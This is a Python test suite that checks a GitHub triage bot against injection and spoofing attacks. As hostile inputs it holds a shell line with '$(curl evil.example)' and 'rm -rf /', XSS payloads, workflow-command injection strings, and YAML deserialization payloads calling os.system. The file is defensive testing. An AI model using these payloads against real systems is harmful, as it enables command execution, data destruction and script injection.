"""Attacks on the part that speaks to GitHub. Each test would notice success. Numbers as in docs/security.md."""

import re
from html import unescape
from pathlib import Path

import pyromark
import pytest
import yaml

from tests.github.fake_github import FakeGitHub
from tests.github.stage import GUIDE, LIST, README, Stage, added
from triagebot.github.own_comments import marker

ROOT = Path(__file__).parent.parent.parent
WORKFLOWS = ("triage", "reusable", "sweep")
ENTRY = "- [Gorse](https://gorse.example/) - {words}\n"
TAGS = {
    *("a", "blockquote", "br", "code", "del", "details", "em", "h1", "h2", "h3", "hr", "li", "ol", "p", "pre"),
    *("strong", "sub", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
PROPOSED = {"https://gorse.example/", "https://second.example/"}


def shown(comment: str) -> tuple[set[str], list[str], str]:
    """What GitHub would make of a comment: its tags, where its links lead, and the text outside of code."""
    html = pyromark.html(marker.text(comment), options=pyromark.Options.ENABLE_TABLES)
    tags = {name.lower() for name in re.findall(r"<\s*([A-Za-z][A-Za-z0-9]*)", html)}
    links = re.findall(r'(?:href|src)="([^"]*)"', html)
    text = re.sub(r"<code[^>]*>.*?</code>", "", html, flags=re.DOTALL)
    return tags, links, unescape(re.sub(r"<[^>]*>", "", text))


HOSTILE = {
    "shell": "$(curl evil.example) `id` ; rm -rf / && echo ${IFS}",
    "mention": "Thanks @octocat and @org/team and @\u200boctocat",
    "entity": "Thanks &commat;org/team &#64;octocat",
    "closing": "fixes #1, closes GH-1, resolves other/repo#2, see a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7b8c9d0",
    "image": "![x](https://evil.example/x.png) ![y][z]",
    "protocol-relative": "[x](//evil.example) <//evil.example>",
    "script links": "[x](javascript:alert(1)) [y](data:text/html,hi)",
    "html": "</details></td><img src=x onerror=alert(1)><script>x</script><details>",
    "fence": "``` ````suggestion\n~~~ ```` text",
    "newline": "one\n- [Second](https://second.example/) - two",
    "bidi": "abc\u202edef\u2066ghi\u200b\U000e0041",
    "command": "::set-env name=X::1 ::add-mask::x ::stop-commands::y",
    "slash": "/accept",
}


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
class TestNothingAStrangerWritesIsLive:
    """Attacks 1, 5 to 14, 33 and 37, wherever a stranger's words come in."""

    def check(self, result_out: str, comments: list[str], outputs: dict[str, str]) -> None:
        for comment in comments:
            tags, links, text = shown(comment)
            assert tags <= TAGS
            assert set(links) <= PROPOSED
            assert not re.search(r"@\w|(?<!\w)#\d|(?i:\bgh-\d)|\b[0-9a-f]{40}\b", text), text
            assert not re.search(r"^/", marker.text(comment), re.MULTILINE)
            assert not re.search("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]", comment)
            assert comment.count("<details>") == comment.count("</details>")
        for line in result_out.splitlines():
            assert re.match(r"::(error|warning|notice) ", line) or not line.startswith("::")
        assert set(outputs) == {"verdict", "section", "entry", "comment-url"}

    def test_in_an_entry(self, hub: FakeGitHub, stage: Stage, words: str) -> None:
        text = ENTRY.format(words=words)
        number = hub.pull(LIST, {"README.md": added(text)}, fork="newcomer/list", title=words, body=words)
        result = stage.opened(number)
        assert result.code == 0, result.err
        self.check(result.out, stage.comments(number), result.outputs)
        for suggestion in stage.suggestions(number):
            body = marker.text(suggestion["body"])
            fence = body[: len(body) - len(body.lstrip("`"))]
            assert len(fence) >= 3
            assert body.rstrip().endswith(f"\n{fence}")
            assert f"\n{fence}" not in body.rstrip()[len(fence) : -len(fence) - 1]

    def test_in_an_issue(self, hub: FakeGitHub, stage: Stage, words: str) -> None:
        body = f"### Link\n\nhttps://gorse.example/\n\n### Name\n\n{words}\n\n### Description\n\n{words}\n"
        number = hub.issue(LIST, words.split("\n", maxsplit=1)[0], body)
        result = stage.opened(number)
        assert result.code == 0, result.err
        self.check(result.out, stage.comments(number), result.outputs)

    def test_in_what_is_accepted(self, hub: FakeGitHub, stage: Stage, words: str) -> None:
        body = f"### Link\n\nhttps://gorse.example/\n\n### Name\n\n{words}\n\n### Description\n\n{words}\n"
        number = hub.issue(LIST, "Add", body)
        stage.opened(number)
        stage.says(number, "maintainer", "/accept")
        for thread in hub.repositories[LIST].threads.values():
            if not thread["pull"]:
                continue
            commit = hub.git.commits[thread["head_sha"]]
            subject = commit.message.split("\n")[0]
            assert "\n" not in thread["title"]
            assert not re.search(r"@\w|#\d|(?i:gh-\d)|://|\[", subject + thread["title"]), subject
            tags, links, text = shown(thread["body"])
            assert tags <= TAGS
            assert links == []
            assert re.findall(r"#\d+|@\w+", text) == [f"#{number}"] * 2  # ours: as proposed in, closes
            old, new = README.split("\n"), commit.files["README.md"].split("\n")
            assert [line for line in old if line not in new] == []
            assert len(new) == len(old) + 1, "one entry, one line"


@pytest.mark.parametrize(
    "files",
    [
        {".github/triagebot.yml": "commands: {accept: [write], suggest: anyone}\nlabels: {enabled: true}\n"},
        {"CONTRIBUTING.md": "# Contributing\n\n- Entries end with five exclamation marks.\n"},
        {".github/prompts/entry.yaml": "name: x\n"},
    ],
    ids=["configuration", "guide", "prompt"],
)
def test_18_what_a_pull_request_does_to_configuration_guide_and_prompts_does_not_count(
    hub: FakeGitHub, stage: Stage, files: dict[str, str]
) -> None:
    number = hub.pull(LIST, {"README.md": added(), **files}, fork="newcomer/list")
    stage.opened(number)
    (comment,) = stage.comments(number)
    assert "exclamation" not in comment
    assert hub.repositories[LIST].threads[number]["labels"] == []
    asked = [path for verb, path in hub.requests if verb == "GET" and "newcomer" in path]
    assert asked == []


def test_18_only_the_lists_own_objects_are_read(hub: FakeGitHub, stage: Stage) -> None:
    number = hub.pull(LIST, {"README.md": added(), "CONTRIBUTING.md": GUIDE + "- More.\n"}, fork="newcomer/list")
    stage.opened(number)
    from tests.github.fake_git import blob_hash

    changed = blob_hash(GUIDE + "- More.\n")
    assert not any(changed in path for _, path in hub.requests)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "> /accept",
            " /accept",
            "\n/accept",
            "please\n/accept",
            "`/accept`",
            "/accept-all",
            "//accept",
        ),
        *("\u200b/accept", "/accept\u200b", "\ufeff/accept"),
    ],
)
def test_20_only_an_exact_first_line_is_a_command(hub: FakeGitHub, stage: Stage, text: str) -> None:
    number = hub.issue(LIST, "Add Gorse", "https://gorse.example/")
    stage.opened(number)
    result = stage.says(number, "maintainer", text)
    assert result.requests == []
    assert "does not begin with a command" in result.summary


def test_20_one_in_capitals_is_answered_and_not_carried_out(hub: FakeGitHub, stage: Stage) -> None:
    number = hub.issue(LIST, "Add Gorse", "https://gorse.example/")
    stage.opened(number)
    result = stage.says(number, "maintainer", "/Accept")
    assert "Perhaps /accept was meant" in result.summary
    assert not any(name.startswith("heads/triagebot/") for name in hub.repositories[LIST].refs)


@pytest.mark.parametrize("action", ["edited", "deleted"])
def test_21_only_new_comments_count(hub: FakeGitHub, stage: Stage, action: str) -> None:
    number = hub.issue(LIST, "Add Gorse", "https://gorse.example/")
    payload = {**hub.command(LIST, number, "maintainer", "/accept"), "action": action}
    assert stage.run("issue_comment", payload).requests == []


@pytest.mark.parametrize("login", ["maintainer[bot]", "maintainer-bot", "Maintainer2", "maintainer\u200b"])
def test_22_a_name_like_a_maintainers_may_nothing(hub: FakeGitHub, stage: Stage, login: str) -> None:
    number = hub.issue(LIST, "Add Gorse", "https://gorse.example/")
    stage.opened(number)
    for kind in ("User", "Bot"):
        hub.users[login] = kind
        assert stage.says(number, login, "/accept").code == 0
    assert not any(ref.startswith("heads/triagebot") for ref in hub.repositories[LIST].refs)


def test_22_association_is_not_asked(hub: FakeGitHub, stage: Stage) -> None:
    number = hub.issue(LIST, "Add Gorse", "https://gorse.example/")
    stage.opened(number)
    payload = hub.command(LIST, number, "stranger", "/accept")
    payload["comment"]["author_association"] = payload["issue"]["author_association"] = "OWNER"
    stage.run("issue_comment", payload)
    assert not any(ref.startswith("heads/triagebot") for ref in hub.repositories[LIST].refs)


@pytest.mark.parametrize("status", [404, 403, 500, 0])
def test_23_not_being_able_to_find_out_means_no(hub: FakeGitHub, stage: Stage, status: int) -> None:
    number = hub.issue(LIST, "Add Gorse", "https://gorse.example/")
    stage.opened(number)
    hub.fault("GET", "/permission$", status, times=99)
    result = stage.says(number, "maintainer", "/accept")
    assert "not open to everybody" in result.summary
    assert not any(ref.startswith("heads/triagebot") for ref in hub.repositories[LIST].refs)


def test_23_an_answer_about_somebody_else_means_no(hub: FakeGitHub, stage: Stage) -> None:
    number = hub.issue(LIST, "Add Gorse", "https://gorse.example/")
    stage.opened(number)
    payload = hub.command(LIST, number, "stranger", "/accept")
    payload["comment"]["user"]["login"] = "maintainer/../stranger"
    stage.run("issue_comment", payload)
    assert not any(ref.startswith("heads/triagebot") for ref in hub.repositories[LIST].refs)


class TestForgedMarkers:
    """Attack 24: a marker counts only in a comment of the token's own user."""

    def forged(self, hub: FakeGitHub, stage: Stage, author: str = "stranger") -> tuple[int, int]:
        number = hub.pull(LIST, {"README.md": added()}, fork="newcomer/list")
        stage.opened(number)
        (genuine,) = stage.comments(number)
        other = hub.pull(LIST, {"README.md": added()}, author="stranger", fork="stranger/list")
        return other, hub.comment(LIST, other, author, genuine)

    def test_it_is_not_edited_and_does_not_stop_the_run(self, hub: FakeGitHub, stage: Stage) -> None:
        number, identity = self.forged(hub, stage)
        before = hub.repositories[LIST].comments[identity]["body"]
        assert stage.opened(number).code == 0
        assert hub.repositories[LIST].comments[identity]["body"] == before
        assert len(stage.comments(number)) == 2  # theirs and ours
        assert hub.repositories[LIST].comments[identity]["user"]["login"] == "stranger"

    def test_what_it_keeps_is_not_accepted(self, hub: FakeGitHub, stage: Stage) -> None:
        from triagebot.github.own_comments.kept import Kept, KeptEntry

        number = hub.issue(LIST, "A question", "Which one?")
        entry = KeptEntry(
            path="README.md", section=("Awesome kettles", "Stove"), title="Evil", url="https://evil.example/"
        )
        mark = marker.Marker(kept=Kept(entries=(entry,)).encoded())
        hub.comment(LIST, number, "stranger", marker.body(mark, "hello"))
        stage.says(number, "maintainer", "/accept")
        assert not any(ref.startswith("heads/triagebot") for ref in hub.repositories[LIST].refs)

    def test_a_quoted_one_is_none(self) -> None:
        mark = marker.Marker(input="0123456789abcdef").line()
        assert marker.find(mark) is not None
        for text in (f"> {mark}", f"x\n{mark}", f" {mark}", mark.replace("triagebot", "Triagebot")):
            assert marker.find(text) is None


def test_32_five_hundred_links_are_bounded_and_it_is_said(hub: FakeGitHub, stage: Stage) -> None:
    lines = "".join(f"- [Kettle {n}](https://kettle{n}.example/) - Boils {n} cups.\n" for n in range(500))
    number = hub.pull(LIST, {"README.md": added(lines)}, fork="newcomer/list")
    result = stage.opened(number)
    assert len(result.gathered) == 20
    assert "480 more entries were not looked at" in stage.comments(number)[0]
    issue = hub.issue(LIST, "Add these", lines)
    assert len(stage.opened(issue).gathered) == 20


def test_36_the_comment_stays_within_githubs_limit(hub: FakeGitHub, stage: Stage) -> None:
    hub.push(LIST, {".github/triagebot.yml": "limits: {entries: 200}\n"})
    words = "A long description, told at length. " * 40
    lines = "".join(f"- [Kettle {n}](https://kettle{n}.example/): {words}\n" for n in range(150))
    number = hub.pull(LIST, {"README.md": added(lines)}, fork="newcomer/list")
    result = stage.opened(number)
    assert result.code == 0, result.err
    (comment,) = stage.comments(number)
    assert len(comment) <= 65_536
    assert "longer than GitHub allows" in comment


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n",
        "!!python/object/apply:os.system ['id']\n",
        "lists: !!python/name:os.system\n",
        "limits: [" * 5000,
    ],
    ids=["aliases", "tag", "nested tag", "depth"],
)
def test_39_a_hostile_configuration_is_wrong_usage(hub: FakeGitHub, stage: Stage, text: str) -> None:
    hub.push(LIST, {".github/triagebot.yml": text})
    number = hub.pull(LIST, {"README.md": added()}, fork="newcomer/list")
    result = stage.opened(number)
    assert result.code == 2
    assert stage.comments(number) == []
    assert "did not finish" in result.summary


def test_rule_11_the_token_is_nowhere(hub: FakeGitHub, stage: Stage) -> None:
    stage.token = "ghs_0123456789abcdefghijklmnopqrstuvwxyz"
    number = hub.pull(LIST, {"README.md": added("- [Gorse](https://gorse.example/): x\n")}, fork="newcomer/list")
    hub.fault("POST", "/pulls/", 500, times=99, message=stage.token)
    result = stage.opened(number)
    for text in (result.out, result.err, result.summary, *result.outputs.values(), *stage.comments(number)):
        assert stage.token not in text


def test_rule_12_nothing_is_ever_merged_closed_or_approved(hub: FakeGitHub, stage: Stage) -> None:
    number = hub.pull(LIST, {"README.md": added()}, fork="newcomer/list")
    issue = hub.issue(LIST, "Add Heath", "https://heath.example/")
    stage.opened(number)
    stage.opened(issue)
    stage.says(issue, "maintainer", "/accept")
    writes = [(verb, path, body) for verb, path, body in hub.bodies if verb != "GET"]
    assert not any("/merge" in path or "state" in (body or {}) for _, path, body in writes)
    assert all((body or {}).get("event") in (None, "COMMENT") for _, _, body in writes)
    assert all(thread["state"] == "open" for thread in hub.repositories[LIST].threads.values())


PINNED = r"@[0-9a-f]{40}$|^qdrant/triagebot@COMMIT$"
"""By a commit; our own by a placeholder, until a release puts its commit there."""


class TestTheWorkflows:
    """Rules 4 and 7."""

    @pytest.mark.parametrize("path", ["action.yml", *(f"docs/examples/{name}.yml" for name in WORKFLOWS)])
    def test_nothing_is_put_into_a_script(self, path: str) -> None:
        document = yaml.safe_load((ROOT / path).read_text(encoding="utf-8"))
        steps = document.get("runs", {}).get("steps") or [
            step for job in document["jobs"].values() for step in job.get("steps", [])
        ]
        for step in steps:
            assert "${{" not in step.get("run", "")
            uses = step.get("uses", "")
            assert not uses or uses.startswith("./") or re.search(PINNED, uses), uses

    @pytest.mark.parametrize("name", WORKFLOWS)
    def test_permissions_are_least_and_the_pull_request_is_not_checked_out(self, name: str) -> None:
        text = (ROOT / f"docs/examples/{name}.yml").read_text(encoding="utf-8")
        document = yaml.safe_load(text)
        assert document["permissions"] == {}
        assert "checkout" not in text.replace("checked out", "")
        assert "head.sha" not in text
        assert "head_ref" not in text
        if "pull_request_target" in text or "workflow_call" in text:
            assert "actions/cache@" not in text
            assert "actions/cache/save" not in text
        for job_name, job in document["jobs"].items():
            wanted = "write" if job_name == "accept" else "read"
            assert job["permissions"]["contents"] == wanted
